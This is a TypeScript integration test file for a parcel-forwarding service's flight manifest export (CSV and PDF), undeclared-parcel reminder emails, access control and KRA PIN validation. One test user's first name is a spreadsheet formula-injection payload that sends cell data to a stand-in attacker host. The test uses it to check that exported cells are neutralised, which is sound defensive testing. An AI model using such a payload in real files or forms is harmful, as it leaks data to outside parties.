import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Response } from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Database, openDatabase } from '../../../adapters/postgres/database.js';
import { migratedDump } from '../../support/migrated-database.js';
import { ACCOUNT_TOKENS } from '../../../core/accounts/account.tokens.js';
import type { OutgoingMail } from '../../../core/mail/mail.ports.js';
import { ADAPTER_TOKENS } from '../../../adapters/wiring.js';
import { NEW_USER, registerAndVerify, signedInAgent, signedInStaff } from '../../support/accounts.js';
import { testApp } from '../../support/test-app.js';

const TEN_KG = { carrier: 'UPS', weightKg: 10, lengthCm: 30, widthCm: 20, heightCm: 10 };
const MALLORY = {
  ...NEW_USER,
  email: 'mallory@example.com',
  firstName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  lastName: 'Doe',
};
const FLIGHT = {
  flightNumber: 'ET509',
  mawb: '706-12345675',
  destination: 'NBO',
  etd: '2026-12-08T22:30:00Z',
  eta: '2026-12-09T18:45:00Z',
};

/** The bytes of a response supertest would otherwise read as text or JSON. */
const binary = (res: Response, done: (error: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (chunk: Buffer) => chunks.push(chunk));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};

async function loadedFlight(storage?: Database) {
  const sent: OutgoingMail[] = [];
  const app = await testApp({
    ...(storage && { storage }),
    mailTransport: {
      send: (mail) => {
        sent.push(mail);
        return Promise.resolve();
      },
      close: () => undefined,
    },
  });
  for (const user of [NEW_USER, MALLORY]) await registerAndVerify(app, user);
  const staff = await signedInStaff(app);
  const amina = await signedInAgent(app);
  await amina
    .put('/api/account/profile')
    .send({ firstName: 'Amina', lastName: 'Yusuf', phoneNumber: '+254712345678', kraPin: 'a123456789b' })
    .expect(200);
  await amina.put('/api/account/delivery').send({ method: 'pickup', point: 'nairobi' }).expect(200);
  const users = app.container.get(ACCOUNT_TOKENS.Users);
  let tracking = 100;
  const receive = async (email: string) => {
    const account = await users.findByEmail(email);
    tracking += 1;
    const received = await staff
      .post('/api/admin/parcels')
      .send({ ...TEN_KG, accountId: account?.accountId, trackingNumber: `TBA000000000${String(tracking)}` })
      .expect(201);
    return (received.body as { number: string }).number;
  };
  const declared = await receive(NEW_USER.email);
  await amina
    .put(`/api/parcels/${declared}/contents`)
    .send({
      items: [
        { description: 'Phone', category: 'electronics-new', quantity: 1, valueUsd: 500 },
        { description: 'Shirts', category: 'clothing', quantity: 3, valueUsd: 20 },
      ],
    })
    .expect(200);
  const undeclared = await receive(MALLORY.email);
  const flight = await staff.post('/api/admin/flights').send(FLIGHT).expect(201);
  const id = (flight.body as { id: string }).id;
  for (const reference of [declared, undeclared])
    await staff.post(`/api/admin/flights/${id}/shipments`).send({ reference }).expect(200);
  const mailSince = async () => {
    await app.container.get(ADAPTER_TOKENS.Background).idle();
    await app.container.get(ADAPTER_TOKENS.OutboxWorker).deliverDue();
    return sent.splice(0);
  };
  return { app, staff, id, declared, undeclared, mailSince };
}

let embedded: Database | undefined;
beforeAll(async () => {
  embedded = await openDatabase({ kind: 'embedded', copyOf: migratedDump() });
});
afterAll(() => embedded?.close());

describe.each([
  ['in memory', () => undefined],
  ['on PostgreSQL (embedded)', () => embedded],
])("the clearing agent's manifest as CSV, %s", (_, storage) => {
  it('has one line per house waybill, its totals, the MAWB and the consolidator, formulas neutralised', async () => {
    const { staff, id, declared, undeclared } = await loadedFlight(storage());
    const res = await staff.get(`/api/admin/flights/${id}/manifest`).buffer(true).parse(binary).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers['content-disposition']).toContain('manifest-ET509-706-12345675.csv');
    const bytes = res.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows: string[][] = parse(bytes, { bom: true, relax_column_count: true });
    expect(rows[0]).toEqual([
      'HAWB',
      'Parcels',
      'Consignee',
      'Phone',
      'Deliver to',
      'KRA PIN',
      'Pieces',
      'Actual kg',
      'Chargeable kg',
      'Goods (category × quantity)',
      'Contents',
      'Declared value (USD)',
      'Insured',
    ]);
    expect(rows[1]).toEqual([
      declared,
      declared,
      'Amina Yusuf',
      '+254712345678',
      'Pickup: Nairobi, (placeholder) Example House, Moi Avenue, Nairobi',
      'A123456789B',
      '1',
      '10',
      '10',
      'Electronics (new) × 1; Clothing & textiles × 3',
      'declared',
      '560.00',
      'no',
    ]);
    expect(rows[2]?.slice(0, 3)).toEqual([undeclared, undeclared, `'${MALLORY.firstName} Doe`]);
    expect(rows[2]?.[9]).toBe(`UNDECLARED (${undeclared})`);
    expect(rows[2]?.[10]).toBe('UNDECLARED');
    const total = rows.find((r) => r[0] === 'TOTAL');
    expect(total).toEqual([
      'TOTAL',
      '2 parcels',
      '2 house waybills',
      '',
      '',
      '',
      '2',
      '20',
      '20',
      '',
      '1 UNDECLARED',
      '560.00',
      '',
    ]);
    const field = (name: string) => rows.find((r) => r[0] === name)?.[1];
    expect(field('MAWB')).toBe('706-12345675');
    expect(field('Flight')).toBe('ET509, ILG to NBO');
    expect(field('Consolidator')).toBe('Kango Express');
    expect(field('Consolidator KRA PIN')).toContain('NOT CONFIGURED');
    // No cell starts a formula.
    expect(rows.flat().filter((cell) => /^[=@]/.test(cell))).toEqual([]);
  });
});

describe("the clearing agent's manifest", () => {
  it('answers a PDF that pdftotext reads the MAWB and the waybills from', async () => {
    const { staff, id, declared } = await loadedFlight();
    const res = await staff
      .get(`/api/admin/flights/${id}/manifest`)
      .query({ format: 'pdf' })
      .buffer(true)
      .parse(binary)
      .expect(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    const bytes = res.body as Buffer;
    expect(bytes.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    const file = join(mkdtempSync(join(tmpdir(), 'manifest-')), 'manifest.pdf');
    writeFileSync(file, bytes);
    const text = execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
    expect(text).toContain('706-12345675');
    expect(text).toContain(declared);
    expect(text).toContain('UNDECLARED');
  });

  it('warns at close of the undeclared shipments and asks their owners, once, to declare', async () => {
    const { staff, id, undeclared, mailSince } = await loadedFlight();
    await mailSince();
    const before = await staff.get(`/api/admin/flights/${id}`).expect(200);
    expect((before.body as { undeclared: string[] }).undeclared).toEqual([undeclared]);
    const closed = await staff.post(`/api/admin/flights/${id}/close`).expect(200);
    expect(closed.body).toMatchObject({ state: 'closed', undeclared: [undeclared] });
    const mails = await mailSince();
    expect(mails.map((m) => [m.to, m.subject])).toEqual([
      [MALLORY.email, expect.stringContaining(`Please declare what is in parcel ${undeclared}`)],
    ]);
    expect(mails[0]?.text).toContain('flight ET509');
    await staff.post(`/api/admin/flights/${id}/depart`).expect(200);
    const later = await mailSince();
    expect(later.filter((m) => m.subject.includes('Please declare'))).toEqual([]);
  });

  it('is for staff only', async () => {
    const { app, id } = await loadedFlight();
    const customer = await signedInAgent(app);
    await customer.get(`/api/admin/flights/${id}/manifest`).expect(403);
    const staff = await signedInStaff(app);
    await staff.get(`/api/admin/flights/${id}/manifest`).query({ format: 'xls' }).expect(400);
    await staff.get('/api/admin/flights/00000000-0000-4000-8000-000000000009/manifest').expect(404);
  });
});

describe('a KRA PIN on the profile', () => {
  it('is saved in capitals, kept when left out, removed when empty, and refused in words when malformed', async () => {
    const app = await testApp();
    await registerAndVerify(app);
    const amina = await signedInAgent(app);
    const profile = { firstName: 'Amina', lastName: 'Yusuf', phoneNumber: '+254712345678' };
    const refused = await amina
      .put('/api/account/profile')
      .send({ ...profile, kraPin: 'A1234B' })
      .expect(400);
    expect((refused.body as { errors: { path: string; message: string }[] }).errors).toEqual([
      { path: 'kraPin', message: expect.stringContaining('a letter, nine digits and a letter') },
    ]);
    const saved = await amina
      .put('/api/account/profile')
      .send({ ...profile, kraPin: 'a123 456 789b' })
      .expect(200);
    expect((saved.body as { kraPin: string }).kraPin).toBe('A123456789B');
    await amina.put('/api/account/profile').send(profile).expect(200);
    expect(((await amina.get('/api/user').expect(200)).body as { kraPin: string }).kraPin).toBe(
      'A123456789B',
    );
    const removed = await amina
      .put('/api/account/profile')
      .send({ ...profile, kraPin: '' })
      .expect(200);
    expect((removed.body as { kraPin: string | null }).kraPin).toBeNull();
  });
});
